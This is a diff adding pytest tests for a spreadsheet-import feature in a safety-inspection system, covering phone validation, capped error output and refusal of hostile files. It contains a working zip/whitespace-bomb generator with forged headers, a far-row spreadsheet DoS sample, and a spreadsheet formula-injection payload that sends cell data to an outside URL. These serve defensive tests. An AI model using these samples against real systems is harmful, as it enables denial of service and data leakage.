@@ -4,8 +4,13 @@ from __future__ import annotations
 
 import csv
 import io
+import json
+import re
+import struct
 import time
+import tracemalloc
 import zipfile
+import zlib
 from datetime import timedelta
 from typing import Any
 
@@ -26,7 +31,7 @@ from safetyops.orgs.importing import (
     enterprise_imports_requeue_stale,
     parse_rows,
 )
-from safetyops.orgs.models import Enterprise, EnterpriseImport, Membership, Node, Role, User
+from safetyops.orgs.models import Enterprise, EnterpriseImport, Membership, Node, Role, Sector, User
 from tests.conftest import World
 from tests.factories import NodeFactory, make_credit_code
 
@@ -304,6 +309,71 @@ def test_credit_code_mangled_by_excel_gets_a_hint_and_a_valid_code_with_e_is_fin
     assert "科学计数法" in job.errors[0]["message"]
 
 
+@pytest.mark.parametrize(
+    ("entered", "stored"),
+    [
+        ("13812345678", "13812345678"),
+        ("+86 138 1234 5678", "13812345678"),
+        ("0571-88886666", "0571-88886666"),
+        ("（0571）8888 6666转123", "0571-88886666-123"),
+        ("010-88886666、13900001111", "010-88886666、13900001111"),
+    ],
+)
+def test_phone_numbers_are_stored_normalised(world: World, entered: str, stored: str) -> None:
+    job = make_job(world.official_a, make_csv([row("电话公司", code(43), "东城镇", "冷库", 主要负责人电话=entered)]))
+
+    enterprise_import_run(import_id=job.pk)
+
+    job.refresh_from_db()
+    assert job.status == EnterpriseImport.Status.DONE, job.errors
+    assert Enterprise.objects.get(credit_code=code(43)).principal_phone == stored
+
+
+@pytest.mark.parametrize("entered", ["12345", "1381234567", "12812345678", "88886666", "0571-0888666", "电话"])
+def test_a_phone_number_that_is_not_one_is_refused(world: World, entered: str) -> None:
+    job = make_job(world.official_a, make_csv([row("电话公司", code(44), "东城镇", "冷库", 安全管理员电话=entered)]))
+
+    enterprise_import_run(import_id=job.pk)
+
+    job.refresh_from_db()
+    [error] = job.errors
+    assert (error["row"], error["column"]) == (2, "安全管理员电话")
+    assert f"“{entered}”不是有效的电话号码" in error["message"] and "0571-88886666" in error["message"]
+    assert not Enterprise.objects.filter(credit_code=code(44)).exists()
+
+
+def test_errors_quote_at_most_fifty_characters_and_stop_at_two_hundred(
+    client: Client, world: World, settings: Any
+) -> None:
+    # The attack of the issue: 1,000 rows with a 50 KB phone number each (shared strings: a small
+    # file) stored a 50 MB error record and made a 49 MB result page. openpyxl writes the string
+    # into every cell instead (33 MB of XML, 335:1), so the bomb check is relaxed for this test.
+    settings.IMPORT_MAX_COMPRESSION_RATIO = 1000
+    huge = "1" * 50_000
+    rows = [row(f"公司{n}", code(100 + n), "东城镇", "冷库", 主要负责人电话=huge) for n in range(1000)]
+    content = make_xlsx(rows)
+    assert len(content) < 400_000
+    job = make_job(world.official_a, content, name="长号码.xlsx")
+
+    enterprise_import_run(import_id=job.pk)
+
+    job.refresh_from_db()
+    assert job.status == EnterpriseImport.Status.FAILED and job.total_rows == 1000
+    assert len(job.errors) == 201
+    assert all(f"“{'1' * 50}…”不是有效的电话号码" in error["message"] for error in job.errors[:200])
+    assert [error["row"] for error in job.errors[:200]] == list(range(2, 202))
+    assert "另有 800 条错误未列出（共 1000 条，涉及 1000 行）" in job.errors[200]["message"]
+    stored = len(json.dumps(job.errors, ensure_ascii=False).encode())
+    assert stored < 100_000  # was 50 MB
+
+    client.force_login(world.official_a)
+    page = client.get(reverse("enterprise_import_detail", args=[job.pk])).content.decode()
+    assert len(page.encode()) < 250_000  # was 49 MB
+    assert "共发现 1000 处错误，涉及 1000 行" in page
+    assert "另有 800 条错误未列出" in page
+    assert not Enterprise.objects.filter(name__startswith="公司").exists()
+
+
 # Not a spreadsheet ----------------------------------------------------------------------------
 
 
@@ -367,6 +437,158 @@ def test_row_limit_is_enforced(world: World, settings: Any) -> None:
     assert job.status == EnterpriseImport.Status.FAILED
     assert "一次最多导入 3 行" in job.errors[0]["message"]
     assert not Enterprise.objects.filter(name__startswith="公司").exists()
+
+
+# Hostile files --------------------------------------------------------------------------------
+
+SHEET = "xl/worksheets/sheet1.xml"
+
+
+def with_member(content: bytes, name: str, body: bytes, compress_type: int = zipfile.ZIP_DEFLATED) -> bytes:
+    """The .xlsx `content` with its member `name` replaced by `body`."""
+    source = zipfile.ZipFile(io.BytesIO(content))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        for info in source.infolist():
+            if info.filename == name:
+                archive.writestr(name, body, compress_type=compress_type)
+            else:
+                archive.writestr(info.filename, source.read(info.filename))
+    return out.getvalue()
+
+
+def deflated(data: bytes, mode: int) -> bytes:
+    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
+    return compressor.compress(data) + compressor.flush(mode)
+
+
+def whitespace_bomb(megabytes: int) -> bytes:
+    """A real workbook whose sheet XML holds `megabytes` MB of spaces after its first row (the
+    attack of the issue: 400 MB in a 400 KB file), built without ever holding the spaces: the
+    deflate stream of 1 MB of spaces, fully flushed so that each copy stands alone, is repeated,
+    stored, and the zip headers are then given the true method, CRC and inflated size."""
+    content = make_xlsx([row("甲公司", code(60), "东城镇", "冷库")])
+    head, tail = zipfile.ZipFile(io.BytesIO(content)).read(SHEET).split(b"</row>", 1)
+    head += b"</row>"
+    spaces = b" " * (1 << 20)
+    stream = deflated(head, zlib.Z_FULL_FLUSH) + deflated(spaces, zlib.Z_FULL_FLUSH) * megabytes
+    stream += deflated(tail, zlib.Z_FINISH)
+    crc = zlib.crc32(head)
+    for _ in range(megabytes):
+        crc = zlib.crc32(spaces, crc)
+    fields = struct.pack("<III", zlib.crc32(tail, crc), len(stream), len(head) + len(spaces) * megabytes + len(tail))
+
+    data = bytearray(with_member(content, SHEET, stream, compress_type=zipfile.ZIP_STORED))
+    local = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo(SHEET).header_offset
+    central = data.index(b"PK\x01\x02")
+    while bytes(data[central + 46 : central + 46 + len(SHEET)]) != SHEET.encode():
+        central = data.index(b"PK\x01\x02", central + 4)
+    for method_at, fields_at in ((local + 8, local + 14), (central + 10, central + 16)):
+        data[method_at : method_at + 2] = struct.pack("<H", zipfile.ZIP_DEFLATED)
+        data[fields_at : fields_at + 12] = fields
+    return bytes(data)
+
+
+def far_row_xlsx(*, declared: str | None) -> bytes:
+    """A small workbook with one cell at XFD1048576; its <dimension> says `declared` (None: absent)."""
+    content = make_xlsx([row("甲公司", code(61), "东城镇", "冷库")])
+    xml = zipfile.ZipFile(io.BytesIO(content)).read(SHEET).decode()
+    xml = re.sub(r"<dimension [^>]*/>", f'<dimension ref="{declared}"/>' if declared else "", xml)
+    far = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
+    return with_member(content, SHEET, xml.replace("</sheetData>", far + "</sheetData>").encode())
+
+
+@pytest.fixture
+def openpyxl_never_loads(monkeypatch: pytest.MonkeyPatch) -> None:
+    import openpyxl
+
+    def refuse(*args: Any, **kwargs: Any) -> None:
+        raise AssertionError("openpyxl was asked to load a hostile file")
+
+    monkeypatch.setattr(openpyxl, "load_workbook", refuse)
+
+
+def refused_quickly(content: bytes) -> tuple[str, float, int]:
+    """parse_rows' error for `content`, the seconds it took and its peak Python memory in bytes."""
+    tracemalloc.start()
+    started = time.perf_counter()
+    try:
+        with pytest.raises(ImportFileError) as raised:
+            parse_rows(content)
+        return raised.value.errors[0]["message"], time.perf_counter() - started, tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+
+
+def test_a_whitespace_bomb_is_refused_from_the_zip_directory(
+    world: World, openpyxl_never_loads: None, settings: Any
+) -> None:
+    content = whitespace_bomb(400)  # 400 MB of sheet XML in a file of about 420 KB
+    assert len(content) < 500_000
+    assert zipfile.ZipFile(io.BytesIO(content)).getinfo(SHEET).file_size > 400_000_000
+
+    message, seconds, peak = refused_quickly(content)
+
+    # Before: 1.2 GB and 10 s, or a MemoryError reported as "not a valid Excel file".
+    assert "解压后有 400 MB，超过上限 150 MB" in message
+    assert seconds < 1 and peak < 20_000_000
+
+    job = make_job(world.official_a, content, name="炸弹.xlsx")
+    enterprise_import_run(import_id=job.pk)
+    job.refresh_from_db()
+    assert job.status == EnterpriseImport.Status.FAILED and job.errors[0]["message"] == message
+    assert not Enterprise.objects.filter(name="甲公司").exists()
+
+
+def test_a_member_that_inflates_too_far_is_refused_even_under_the_size_cap(openpyxl_never_loads: None) -> None:
+    content = whitespace_bomb(100)  # 100 MB: under the 150 MB cap, but 1000 times its compressed size
+
+    message, seconds, peak = refused_quickly(content)
+
+    assert "“xl/worksheets/sheet1.xml”解压后是压缩时的" in message and "正常的表格不超过 100 倍" in message
+    assert seconds < 1 and peak < 20_000_000
+
+
+def test_the_bomb_is_real(settings: Any) -> None:
+    # Without the caps the same file reaches openpyxl and inflates to its declared size.
+    settings.IMPORT_MAX_UNCOMPRESSED_BYTES = 10**10
+    settings.IMPORT_MAX_COMPRESSION_RATIO = 10**6
+    with zipfile.ZipFile(io.BytesIO(whitespace_bomb(8))) as archive:
+        assert len(archive.read(SHEET)) > 8 * 1024 * 1024  # CRC and size check out
+    [record] = parse_rows(whitespace_bomb(8))
+    assert record["企业名称"] == "甲公司"
+
+
+@pytest.mark.parametrize("declared", ["A1:XFD1048576", None], ids=["declared", "no-dimension"])
+def test_a_row_far_down_the_sheet_is_refused_without_reading_up_to_it(declared: str | None) -> None:
+    content = far_row_xlsx(declared=declared)
+    assert len(content) < 10_000
+
+    message, seconds, _peak = refused_quickly(content)
+
+    # Before: openpyxl padded a million empty rows of 16,384 cells (47-62 s of worker time).
+    if declared:
+        assert "声明的数据范围是 A1:XFD1048576（到第 1048576 行），超过了一次最多导入的 50000 家企业" in message
+    else:
+        assert "第 1048576 行仍有内容或格式，超过了一次最多导入的 50000 家企业" in message
+    assert seconds < 1
+
+
+def test_blank_rows_and_far_columns_within_the_limits_still_import() -> None:
+    # A company under 57 blank rows, and a note in column ZZ (beyond the 64 columns read): both fine.
+    content = make_xlsx([row("甲公司", code(62), "东城镇", "冷库")])
+    cells = [("A", "乙公司"), ("B", code(63)), ("C", "东城镇"), ("D", "冷库"), ("F", "王五"), ("ZZ", "备注")]
+    far = "".join(f'<c r="{column}60" t="inlineStr"><is><t>{value}</t></is></c>' for column, value in cells)
+    xml = zipfile.ZipFile(io.BytesIO(content)).read(SHEET).decode()
+    xml = re.sub(r"<dimension [^>]*/>", '<dimension ref="A1:ZZ60"/>', xml)
+    xml = xml.replace("</sheetData>", f'<row r="60">{far}</row></sheetData>')
+
+    records = parse_rows(with_member(content, SHEET, xml.encode()))
+
+    assert [(record["_row"], record["企业名称"], record["主要负责人"]) for record in records] == [
+        (2, "甲公司", "王五"),
+        (60, "乙公司", "王五"),
+    ]
 
 
 # Upload form ----------------------------------------------------------------------------------
@@ -451,8 +673,28 @@ def test_xlsx_template_lists_rules_and_sectors(client: Client, world: World) -> 
 
     notes = load_workbook(io.BytesIO(content))["填写说明"]
     text = "\n".join(str(cell) for values in notes.iter_rows(values_only=True) for cell in values if cell)
-    for expected in ("全部或全不", "统一社会信用代码", "危险化学品", "hazchem", "消防（人员密集场所）"):
+    for expected in ("全部或全不", "统一社会信用代码", "危险化学品", "消防（人员密集场所）"):
         assert expected in text
+    # The sectors by their Chinese names only: no English codes (hazchem, fire-crowded ...).
+    codes = set(Sector.objects.values_list("code", flat=True))
+    assert not codes & set(re.findall(r"[a-z][a-z-]+", text))
+
+
+def test_every_text_in_the_template_is_text_never_a_formula(client: Client, world: World) -> None:
+    # A sector or region name is data; one beginning with "=" must not become a formula.
+    world.sector_chem.name = '=HYPERLINK("http://e.x/?"&A2,"危化")'  # fits 40 chars
+    world.sector_chem.save()
+    client.force_login(world.official_a)
+    content = client.get(reverse("enterprise_import_template", args=["xlsx"])).content
+
+    workbook = load_workbook(io.BytesIO(content))
+    cells = [cell for sheet in workbook for cells in sheet.iter_rows() for cell in cells if cell.value is not None]
+    evil = [cell for cell in cells if cell.value == world.sector_chem.name]
+    assert evil and all(cell.data_type == "s" and cell.quotePrefix for cell in evil)
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
+        assert len(sheets) == 2
+        assert not any(b"<f>" in archive.read(name) or b"<f " in archive.read(name) for name in sheets)
 
 
 def test_unknown_template_format_is_404(client: Client, world: World) -> None:
